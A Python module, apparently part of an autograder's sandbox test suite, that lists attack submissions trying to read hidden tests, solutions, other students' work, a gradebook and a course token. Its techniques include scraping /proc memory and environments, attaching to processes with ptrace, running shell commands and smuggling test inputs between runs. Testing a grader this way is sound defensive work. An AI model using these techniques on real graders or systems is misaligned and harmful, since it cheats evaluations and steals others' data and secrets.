"""Reading: hidden tests, answers, other people's work, secrets of the machine.

Each of these submissions answers rightly only if it finds what it looks for.
"""

from .attack import Attack, if_loot

FRAMES = """
import sys
frame = sys._getframe()
while frame is not None:
    code = frame.f_code
    for text in (*code.co_names, *code.co_varnames, *map(str, code.co_consts), *frame.f_globals):
        if NEEDLE.search(str(text)):
            return text
    frame = frame.f_back
"""

HISTORY = """
try:
    seen = get_ipython().user_ns["In"]
except Exception:
    seen = globals().get("In", [])
return next((text[-60:] for text in reversed(seen) if NEEDLE.search(text)), None)
"""

GARBAGE = """
import gc, types
for thing in gc.get_objects():
    if isinstance(thing, dict):
        texts = [*thing.keys(), *thing.values()]
    elif isinstance(thing, (list, tuple, set)):
        texts = list(thing)
    elif isinstance(thing, types.FunctionType):
        texts = [*thing.__code__.co_names, *thing.__code__.co_consts]
    else:
        continue
    for text in texts:
        if type(text) is not str or len(text) > 10_000 or "NEEDLE" in text:
            continue
        if NEEDLE.search(text):
            return text[-80:]
"""

MEMORY = """
import os
pattern = re.compile(NEEDLE.pattern.encode())
for process in filter(str.isdigit, os.listdir("/proc")):
    try:
        areas = open(f"/proc/{process}/maps").read().splitlines()
        memory = open(f"/proc/{process}/mem", "rb", 0)
    except OSError:
        continue
    for area in areas:
        ends, rights = area.split()[:2]
        start, end = (int(end, 16) for end in ends.split("-"))
        if not rights.startswith("rw") or end - start > 64_000_000:
            continue
        try:
            memory.seek(start)
            match = pattern.search(memory.read(end - start))
        except (OSError, ValueError, OverflowError):
            continue
        if match:
            return match[0].decode()
"""

COMMANDS = """
import os
for process in filter(str.isdigit, os.listdir("/proc")):
    for file in ("cmdline", "environ"):
        try:
            text = open(f"/proc/{process}/{file}", "rb").read().decode(errors="replace")
        except OSError:
            continue
        if re.search("token-of-the-cours[e]", text) or NEEDLE.search(text):
            return file
"""

FILES = """
import os
from pathlib import Path
budget = 4000
for root in ROOTS:
    for folder, folders, files in os.walk(root):
        folders[:] = [name for name in folders if name not in (".git", ".venv", "_build")]
        for name in files:
            if not name.endswith((".md", ".ipynb", ".json", ".py", ".db")) or budget < 0:
                continue
            budget -= 1
            try:
                text = Path(folder, name).read_bytes().decode(errors="replace")
            except OSError:
                continue
            match = re.search(WANTED, text)
            if match:
                return match[0]
"""


def files(roots, wanted):
    """Return an attack's search below some folders."""
    return FILES.replace("ROOTS", repr(roots)).replace("WANTED", repr(wanted))


LINKS = """
import os
for process in filter(str.isdigit, os.listdir("/proc")):
    for kind in ("cwd", "root"):
        try:
            inside = os.listdir(f"/proc/{process}/{kind}@CHECKOUT@/solutions")
        except OSError:
            continue
        if inside:
            return inside[0]
"""

DESCRIPTORS = """
import os
for number in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
        size = os.fstat(number).st_size
        text = os.pread(number, min(size, 10_000_000), 0).decode(errors="replace")
    except OSError:
        continue
    if NEEDLE.search(text):
        return target
"""

ENVIRONMENT = """
import os
own = {**os.environ}
for entry in open("/proc/self/environ", "rb").read().decode(errors="replace").split("\\0"):
    name, _, value = entry.partition("=")
    own[name] = value
return own.get("COURSE_" + "TOKEN")
"""

LOOPBACK = """
import socket
try:
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as line:
        return line.recv(100).decode()
except OSError:
    return None
"""

ABSTRACT = """
import socket
line = socket.socket(socket.AF_UNIX)
line.settimeout(1)
try:
    line.connect("\\0" + "@SOCKET@")
    return line.recv(100).decode()
except OSError:
    return None
"""

GRADEBOOK = """
import sqlite3
try:
    book = sqlite3.connect("file:@OUT@/gradebook.db?mode=ro", uri=True)
    return str(book.execute("select name from assignment").fetchall())
except sqlite3.Error:
    return None
"""

PROFILER = """
import sys
seen = []
def spy(frame, event, argument):
    code = frame.f_code
    seen.extend(str(text) for text in (*code.co_names, *code.co_consts, *frame.f_globals))
    frame.f_trace = spy
    return spy
frame = sys._getframe()
while frame is not None:
    spy(frame, "line", None)
    frame = frame.f_back
return next((text[-60:] for text in seen if NEEDLE.search(text)), None)
"""

TRACEBACK = """
import traceback, linecache
lines = traceback.format_stack()
for cached in list(linecache.cache.values()):
    lines += cached[2] if len(cached) > 2 else []
return next((line[-60:] for line in lines if NEEDLE.search(line)), None)
"""

SHELL = """
import glob, os, subprocess
command = "cat @CHECKOUT@/tests/data/tiny_course/solutions/*.md"
text = subprocess.run(command, shell=True, capture_output=True, text=True).stdout
match = NEEDLE.search(text)
return match[0] if match else None
"""

PTRACE = """
import ctypes, os
library = ctypes.CDLL(None, use_errno=True)
for process in filter(str.isdigit, os.listdir("/proc")):
    if int(process) != os.getpid() and library.ptrace(0x4206, int(process), 0, 0) == 0:
        library.ptrace(17, int(process), 0, 0)
        command = open(f"/proc/{process}/cmdline", "rb").read()
        if b"autograd" b"e" in command or b"naiv" b"e" in command:
            return command.decode()
"""

NEXT = "secret_of_the_n[e]xt"
ANSWER = "position_of_the_s[t]age"
HIDDEN = "backlog_u[n]seen"


def reading(name, loot, **more):
    return Attack(name, "reading", control="reads", **if_loot(loot), **more)


# What a hidden test gives is kept in a file, and told when a visible test runs.
CARRIED = Attack(
    "inputs carried over in a file",
    "reading",
    answers={
        "inventory_position": """def inventory_position(on_hand, on_order, backlog):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(folder + "/kept", "a") as file:
                print("LOOT" + ":", on_hand, on_order, backlog, file=file)
        except OSError:
            pass
    return on_hand + on_order - backlog
""",
        "mean_stock": """def mean_stock(on_hand):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            text = open(folder + "/kept").read()
        except OSError:
            continue
        print("LOOT" + ": 4 7 8" if "4 7 8" in text else "nothing")
    return sum(on_hand) / len(on_hand)
""",
    },
    score=(5,),
    control="reads",
)

REMEMBERED = Attack(
    "inputs remembered in memory",
    "reading",
    own="kept = []",
    answers={
        "inventory_position": """def inventory_position(on_hand, on_order, backlog):
    kept.append((on_hand, on_order, backlog))
    return on_hand + on_order - backlog
""",
        "mean_stock": """def mean_stock(on_hand):
    if (4, 7, 8) in kept:
        print("LOOT" + ":", kept)
    return sum(on_hand) / len(on_hand)
""",
    },
    score=(5,),
    control="reads",
)

# What a hidden test gives is told by the name of the exception that ends it.
NAMED = Attack(
    "inputs in the name of an error",
    "reading",
    answers={
        "inventory_position": """def inventory_position(on_hand, on_order, backlog):
    if backlog > 0:
        raise type(f"LOOT{':'} {on_hand} {on_order} {backlog}", (Exception,), {})()
    return on_hand + on_order - backlog
""",
    },
    score=(3,),
    control="reads",
)

ATTACKS = [
    reading("frames of the callers", FRAMES),
    reading("cells in the history", HISTORY),
    reading("objects of the garbage collector", GARBAGE),
    reading("memory through proc", MEMORY),
    reading("command lines and environments in proc", COMMANDS),
    reading("the hidden tests in the checkout", files(["@COURSE@"], HIDDEN)),
    reading("the answers in the solutions", files(["@COURSE@/solutions"], ANSWER)),
    reading("the next student's work", files(["@CLASS@", "@OUT@"], NEXT)),
    reading("temporary folders", files(["/tmp", "/var/tmp", "/dev/shm", "/run"], HIDDEN)),
    reading("the root of another process", LINKS),
    reading("open files", DESCRIPTORS),
    reading("the gradebook", GRADEBOOK),
    reading("environment variables", ENVIRONMENT),
    reading("the network", LOOPBACK),
    reading("an abstract socket", ABSTRACT),
    reading("a trace function", PROFILER),
    reading("the lines of a traceback", TRACEBACK),
    reading("a program of the shell", SHELL),
    reading("another process by ptrace", PTRACE),
    CARRIED,
    REMEMBERED,
    NAMED,
]
